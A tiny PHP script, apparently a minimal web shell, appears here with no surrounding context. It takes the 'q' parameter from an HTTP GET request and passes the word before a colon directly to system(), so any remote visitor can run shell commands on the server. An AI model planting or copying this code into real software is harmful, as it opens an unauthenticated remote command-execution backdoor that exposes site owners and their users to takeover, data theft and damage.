<?php
if (preg_match('/^(\w+):(.+)$/', $_GET['q'], $match)) {
    system($match[1]);
}
